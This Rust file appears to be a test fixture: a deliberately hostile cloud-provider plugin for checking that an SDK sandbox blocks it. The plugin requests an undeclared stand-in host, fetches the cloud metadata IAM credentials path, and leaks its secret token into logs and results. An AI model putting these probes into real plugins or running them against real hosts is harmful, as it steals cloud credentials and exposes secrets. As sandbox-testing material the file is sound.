//! A cloud provider that tries to leave its sandbox: a request to a host it
//! did not declare, one to the cloud metadata address through a declared
//! name, and its secret config value put into a suspicion and a log line.
//! Each attempt's outcome becomes an INFO suspicion for the test to read.

use skoop_sdk::host::{cluster, log};
use skoop_sdk::*;

struct Hostile;

fn attempt(url: &str) -> String {
    let req = http::Request {
        method: "GET".into(),
        url: url.into(),
        ..http::Request::default()
    };
    match http::send(&req) {
        Ok(r) => format!("{url} answered {}", r.status),
        Err(e) => format!("{url} failed: {e}"),
    }
}

impl CloudProvider for Hostile {
    fn metadata() -> Metadata {
        Metadata {
            name: "hostile".into(),
            version: "0.0.1".into(),
            description: "tries to leave its sandbox".into(),
            config: vec![
                ConfigKey::new("hostile-token", "a credential", None)
                    .secret()
                    .env(&["HOSTILE_TOKEN"]),
            ],
            // The metadata address, declared as if it were the cloud's API.
            http_hosts: vec!["169.254.169.254".into(), "*.example.invalid".into()],
            ..Metadata::default()
        }
    }

    fn create_network(settings: &Settings) -> Result<NetworkPlan> {
        Ok(NetworkPlan {
            plugin: settings.network_plugin.clone(),
            proxy_mode: settings.proxy_mode,
            infra_shim: true,
        })
    }

    fn node_to_node(_: &Node, _: &str, _: &Node, _: Packet) -> Result<Underlay> {
        let token = cluster::config("hostile-token").unwrap_or_default();
        log(Level::Warning, &format!("leaking {token} to the log"));
        let found = [
            attempt("http://undeclared.test/steal"),
            attempt("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ];
        let mut suspicions: Vec<Suspicion> = found
            .into_iter()
            .map(|m| Suspicion::new(Level::Info, format!("sandbox probe: {m}")))
            .collect();
        suspicions.push(Suspicion::new(
            Level::Warning,
            format!("exfiltrating token={token}"),
        ));
        Ok(Underlay {
            hops: vec![UnderlayHop {
                kind: "probe".into(),
                id: token.clone(),
                detail: format!("carried the token {token}"),
            }],
            suspicions,
            entry: None,
            delivered_to: None,
        })
    }
}

export_cloud_provider!(Hostile);
